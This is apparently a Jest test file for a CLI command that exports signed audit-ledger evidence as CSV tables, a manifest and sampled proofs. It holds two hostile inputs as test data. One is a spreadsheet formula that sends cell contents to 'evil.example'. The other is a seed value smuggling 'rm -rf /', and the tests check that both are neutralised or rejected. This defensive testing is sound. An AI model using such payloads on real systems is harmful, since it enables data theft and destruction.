import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { basename, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { eventJson } from '../../../core/api/wire.ts';
import { entryOf } from '../../../core/ledger/entry.ts';
import {
  ANA,
  BEN,
  deployed,
  entryBytesOf,
  orderAbout,
  SESSION,
  type TrailEvent,
  time,
  trailOf,
} from '../../support/evidence-trail.ts';
import { WITHOUT_KEY } from '../../support/manipulated-ledgers.ts';
import { parseCsv } from '../../support/parse-csv.ts';
import { entriesOf, ledgerOf, newSigner } from '../../support/test-ledger.ts';
import { type LedgerBroker, ledgerBroker, NOT_FOUND } from '../audit/ledger-broker.ts';

const signer = newSigner();
const EVIL = '=HYPERLINK("https://evil.example?"&A1,"Roll back")';

/** 300 grants, one every minute of the 20th, and a little of all the rest. */
const grants = Array.from({ length: 300 }, (_, minute) => {
  const at = time('20T00:00:00') + minute * 60_000;
  const trail = trailOf(at, minute === 7 ? { justification: EVIL } : {});
  return {
    id: trail.id,
    events: [
      trail.requested,
      trail.next({ type: 'vended', session: SESSION }, at + 1000, 'active', ANA),
      trail.next({ type: 'expired' }, at + 901_000, 'expired'),
    ],
  };
});
const EVENTS: readonly TrailEvent[] = [
  deployed('sha256:1', time('01T10:00:00'), ['the first bundle']),
  ...grants.flatMap(({ events }) => events),
  orderAbout(ANA.id, { type: 'principal-suspended' }, time('20T12:00:00'), BEN),
  trailOf(time('21T10:00:00'), { outcome: 'deny' }).requested,
];
const ENTRIES = EVENTS.map(entryBytesOf);
const LOG = ledgerOf(ENTRIES, signer);

/** A request that is too long for an entry, among others: the log has its hash, the trail has all of it. */
function withLongEvent() {
  const { id: long, requested } = trailOf(time('20T09:00:00'), {
    justification: `long ${'x'.repeat(20_000)}`,
  });
  const entries = [...ENTRIES, entryBytesOf(requested)];
  return { long, entries, trail: eventJson(requested) };
}

const trailAnswer = (grantId: string, event: object) => ({
  [`GET /v1/grants/${grantId}/events`]: { body: { events: [event], nextCursor: null } },
});

let broker: LedgerBroker;
let out: string;
beforeEach(async () => {
  broker = await ledgerBroker(signer.vkey);
  broker.serve(LOG);
  out = join(broker.home.folder, 'evidence');
});
afterEach(() => broker.close());

const run = (...more: readonly string[]) =>
  broker.home.run(
    ['evidence', 'export', '--from', '2026-11-20', '--to', '2026-11-20', '--out', out, ...more],
    broker.env,
  );
const read = (path: string): string => readFileSync(join(out, path), 'utf8');
const table = (name: string): readonly Readonly<Record<string, string>>[] => {
  const [columns = [], ...records] = parseCsv(read(`${name}.csv`));
  return records.map((cells) =>
    Object.fromEntries(columns.map((column, at) => [column, cells[at] ?? ''])),
  );
};
const sha256 = (text: string | Buffer): string => createHash('sha256').update(text).digest('hex');
/** What stands beside the folder, its own traces included. */
const traces = (): readonly string[] =>
  readdirSync(broker.home.folder).filter((name) => name.startsWith(basename(out)));

test('an event that is too long for an entry is read from the trail, and is the one with this hash', async () => {
  const { long, entries, trail } = withLongEvent();
  broker.serve(ledgerOf(entries, signer), trailAnswer(long, trail));
  expect(await run()).toMatchObject({ code: 0, err: '' });
  const row = table('population').find(({ id }) => id === long);
  expect(row?.['justification']).toBe(`long ${'x'.repeat(20_000)}`);
});

describe('an export', () => {
  test('has every table, and says what it has', async () => {
    const { code, out: said, err } = await run();
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(said).toContain('from 901 entries of 903, all verified');
    expect(said).toMatch(/population\.csv +300\n/);
    expect(readdirSync(out).toSorted()).toEqual([
      'README.md',
      'access-reviews.csv',
      'bundles.csv',
      'controls.csv',
      'denials.csv',
      'exceptions.csv',
      'ledger',
      'manifest.json',
      'orders.csv',
      'population.csv',
      'principals.csv',
      'refusals.csv',
      'vends.csv',
      'votes.csv',
    ]);
    expect(traces()).toEqual(['evidence']);
    expect(table('population').map(({ id }) => id)).toEqual(grants.map(({ id }) => id));
    expect(table('vends')).toHaveLength(300);
    expect(table('bundles')).toMatchObject([{ inForce: 'at the start' }]);
    expect(table('orders')).toMatchObject([{ order: 'suspended', by: BEN.id }]);
    expect(table('denials')).toEqual([]);
  });

  test('runs no formula of those who are audited', async () => {
    await run();
    expect(table('population')[7]?.['justification']).toBe(`'${EVIL}`);
  });

  test('can be read by its owner alone', async () => {
    await run();
    expect(statSync(out).mode & 0o777).toBe(0o700);
  });

  test('brings the ledger along, which verifies offline', async () => {
    await run();
    const verified = await broker.home.run(
      ['audit', 'verify', '--from', join(out, 'ledger'), '--key', signer.vkey],
      {},
    );
    expect(verified).toMatchObject({ code: 0, out: expect.stringContaining('903 entries') });
    const files = readdirSync(join(out, 'ledger'), { recursive: true, withFileTypes: true });
    const paths = files
      .filter((file) => file.isFile())
      .map((file) => join(file.parentPath, file.name).slice(join(out, 'ledger').length + 1));
    expect(paths.toSorted()).toEqual([...LOG.keys()].toSorted());
  });

  test('lists its files with their hashes, and what the counts follow from', async () => {
    await run('--sample', '3', '--seed', 'x');
    const manifest = JSON.parse(read('manifest.json'));
    expect(manifest).toMatchObject({
      format: 'valetkey-evidence@v1',
      period: { from: '2026-11-20T00:00:00.000Z', until: '2026-11-21T00:00:00.000Z' },
      ledger: { vkey: signer.vkey, size: 903, checkpoint: read('ledger/checkpoint') },
      entries: { before: 1, within: 901, after: 1, first: 1, last: 901 },
      sample: { size: 3, seed: 'x', drawn: 3, proofs: 9 },
    });
    for (const { path, sha256: hash, rows } of manifest.files) {
      expect([path, sha256(readFileSync(join(out, path)))]).toEqual([path, hash]);
      if (rows !== null) expect([path, parseCsv(read(path)).length - 1]).toEqual([path, rows]);
    }
    const listed = manifest.files.map(({ path }: { path: string }) => path.split('/')[0]);
    expect(new Set([...listed, 'ledger', 'manifest.json'])).toEqual(new Set(readdirSync(out)));
  });

  test('of the same period is the same again, bit by bit', async () => {
    await run('--sample', '3', '--seed', 'x');
    const first = join(broker.home.folder, 'first');
    cpSync(out, first, { recursive: true });
    out = join(broker.home.folder, 'evidence-again');
    await run('--sample', '3', '--seed', 'x');
    for (const file of readdirSync(first, { recursive: true, withFileTypes: true })) {
      if (!file.isFile()) continue;
      const path = join(file.parentPath, file.name);
      expect([path, read(path.slice(first.length + 1))]).toEqual([
        path,
        readFileSync(path, 'utf8'),
      ]);
    }
  });

  test('remembers the ledger, as every look does', async () => {
    await run();
    broker.serve(ledgerOf(ENTRIES.slice(0, 100), signer));
    out = join(broker.home.folder, 'evidence-again');
    const { code, err } = await run();
    expect({ code, traces: traces() }).toEqual({ code: 1, traces: [] });
    expect(err).toContain('it had 903 entries when you saw it');
  });

  test('of a period without grants says so', async () => {
    broker.serve(ledgerOf(ENTRIES.slice(0, 1), signer));
    const { code, out: said } = await run();
    expect(code).toBe(0);
    expect(said).toContain('No grant was requested or open in this period.');
    expect(said).toContain('The ledger ends at 2026-11-01T10:00:00Z');
    expect(read('README.md')).toContain('Export again when the period is over');
  });

  test('for programs is one document', async () => {
    const { code, out: said } = await run('--json');
    expect(code).toBe(0);
    const answer = JSON.parse(said);
    expect(answer).toMatchObject({ ok: true, out, entries: { within: 901 }, sample: null });
    expect(answer.files).toEqual(JSON.parse(read('manifest.json')).files);
  });
});

describe('the controls', () => {
  test('are those of all frameworks, with the rows that answer them', async () => {
    await run();
    const rows = table('controls');
    expect(new Set(rows.map(({ framework }) => framework))).toHaveProperty('size', 4);
    const [row] = rows.filter(
      ({ control, file }) => control === 'CC6.2' && file === 'population.csv',
    );
    expect(row).toMatchObject({ rows: '300' });
    for (const { file = '' } of rows) {
      expect(file === 'sample.csv' || existsSync(join(out, file))).toBe(true);
    }
  });

  test.each([
    ['soc2', 'SOC 2 (Trust Services Criteria)'],
    ['pci', 'PCI DSS 4.0.1'],
    ['iso', 'ISO/IEC 27001:2022, Annex A'],
    ['nist', 'NIST SP 800-53 Rev. 5'],
  ])('are those of %s alone, where they are asked for', async (control, name) => {
    await run('--control', control);
    expect(new Set(table('controls').map(({ framework }) => framework))).toEqual(new Set([name]));
    expect(read('README.md')).toContain(`Controls are those of ${name}.`);
  });
});

describe('a sample', () => {
  test('is what anybody draws with the seed, and every entry of it is proven', async () => {
    expect(await run('--sample', '5', '--seed', '83417')).toMatchObject({ code: 0 });
    const wanted = grants
      .map(({ id }) => ({ id, sha256: sha256(`83417${id}`) }))
      .toSorted((one, other) => (one.sha256 < other.sha256 ? -1 : 1))
      .slice(0, 5);
    expect(table('sample')).toEqual(
      wanted.map((drawn, at) => ({ draw: String(at + 1), ...drawn, proofs: '3' })),
    );
    for (const { id } of wanted) {
      const proofs = readdirSync(join(out, 'proofs', id));
      const places = EVENTS.flatMap((event, index) =>
        'grantId' in event && event.grantId === id ? [`${index}.tlog-proof`] : [],
      );
      expect(proofs.toSorted()).toEqual(places.toSorted());
      const [proof = ''] = proofs;
      const verified = await broker.home.run(
        ['audit', 'verify', '--from', join(out, 'proofs', id, proof), '--key', signer.vkey],
        {},
      );
      expect(verified).toMatchObject({ code: 0, out: expect.stringContaining(id) });
    }
  });

  test('can be larger than the population', async () => {
    await run('--sample', '1000', '--seed', 'x');
    expect(table('sample')).toHaveLength(300);
  });
});

describe('nothing is exported', () => {
  const nothing = async (code: number, says: string | RegExp, ...more: readonly string[]) => {
    const { err, ...finished } = await run(...more);
    expect({ ...finished, traces: traces() }).toEqual({ code, out: '', traces: [] });
    expect(err).toMatch(says);
  };

  test.each(Object.entries(WITHOUT_KEY))('of a ledger with %s', async (_, change) => {
    broker.serve(change(LOG));
    await nothing(1, /tell your security team/);
  });

  test('of a ledger with a changed entry, which is named', async () => {
    broker.serve(WITHOUT_KEY['swapped entries']?.(LOG) ?? LOG);
    await nothing(1, /entry \d+ \(event ev_\w+ of grant gr_\w+\) was changed after it was signed/);
  });

  test('of a ledger with digests that no trail explains', async () => {
    const digests = EVENTS.map((event) => entryOf(event, 'digests').bytes);
    broker.serve(ledgerOf(digests, signer));
    await nothing(1, /Entry 0 of the ledger of .* has only the SHA-256 of event ev_\w+/);
  });

  test('of a ledger with a digest whose event was changed in the trail', async () => {
    const { long, entries, trail } = withLongEvent();
    broker.serve(ledgerOf(entries, signer), trailAnswer(long, { ...trail, entitlement: 'other' }));
    await nothing(1, /has only the SHA-256 of event ev_\w+/);
  });

  test('of a ledger that is newer than the command', async () => {
    broker.serve(ledgerOf([Buffer.from('{"v":1,"type":"teleported","id":"x"}')], signer));
    await nothing(1, /does not know: type teleported.\n.*update valetkey/);
  });

  test('of a ledger whose entries are no events', async () => {
    const text = Buffer.from(entriesOf(1)[0] ?? []).toString();
    broker.serve(ledgerOf([Buffer.from(text.replace('"actor"', '"actress"'))], signer));
    await nothing(1, /Entry 0 .* is signed, but it is no event: its actor/);
  });

  test('from a broker without a ledger', async () => {
    broker.say(null);
    await nothing(1, /has no audit ledger/);
  });

  test('for who may not audit', async () => {
    const forbidden = {
      status: 403,
      headers: { 'content-type': 'application/problem+json' },
      body: { type: 't', title: 't', status: 403, detail: 'You need permission to audit.' },
    };
    broker.serve(LOG, { 'GET /v1/audit/ledger/checkpoint': forbidden });
    await nothing(4, /takes the right to audit/);
  });

  test('while there is no checkpoint', async () => {
    broker.serve(new Map(), { 'GET /v1/audit/ledger/checkpoint': NOT_FOUND });
    await nothing(1, /has no checkpoint/);
  });

  test.each([
    [['--to', '2026-11-19'], /ends \(2026-11-19\) before it begins/],
    [['--from', '20.11.2026'], /"20.11.2026" is no day/],
    [['--sample', '3'], /needs both --sample and --seed/],
    [['--seed', 'x'], /needs both --sample and --seed/],
    [['--sample', '3', '--seed', "'; rm -rf /"], /up to 64 letters/],
    [['--control', 'hipaa'], /Allowed choices are soc2, pci, iso, nist/],
  ])('with %j', async (args, says) => {
    await nothing(2, says, ...args);
    expect(broker.server.requests).toEqual([]);
  });
});

describe('the folder', () => {
  test('may be there and empty', async () => {
    mkdirSync(out);
    expect((await run()).code).toBe(0);
    expect(table('population')).toHaveLength(300);
  });

  test('is never overwritten', async () => {
    mkdirSync(out);
    writeFileSync(join(out, 'mine'), 'mine');
    const { code, err } = await run();
    expect({ code, names: readdirSync(out) }).toEqual({ code: 2, names: ['mine'] });
    expect(err).toContain('is not empty: nothing is overwritten');
    expect(broker.server.requests).toEqual([]);
  });

  test('is no file', async () => {
    writeFileSync(out, 'mine');
    const { code, err } = await run();
    expect(code).toBe(2);
    expect(err).toContain('is no folder');
  });

  test('that cannot be written says so', async () => {
    writeFileSync(join(broker.home.folder, 'file'), '');
    out = join(broker.home.folder, 'file', 'evidence');
    const { code, err } = await run();
    expect(code).toBe(1);
    expect(err).toMatch(/Cannot write .*: a parent folder is a file/);
  });

  test('of an export that was stopped says that it is incomplete', async () => {
    const tile = 'GET /v1/audit/ledger/tile/entries/001';
    broker.serve(LOG, { [tile]: { delayMs: 3_600_000 } });
    const running = broker.home.start(
      ['evidence', 'export', '--from', '2026-11-20', '--to', '2026-11-20', '--out', out],
      broker.env,
    );
    const isReached = () => broker.server.requests.some(({ line }) => line === tile);
    while (!isReached()) await sleep(20);
    // The first signal waits for the answer, the second for nothing.
    const again = setInterval(() => running.child.kill('SIGINT'), 100);
    const { code } = await running.finished;
    clearInterval(again);
    expect({ code, traces: traces() }).toEqual({
      code: 130,
      traces: [expect.stringMatching(/^evidence\.incomplete-\w+$/)],
    });
  });
});
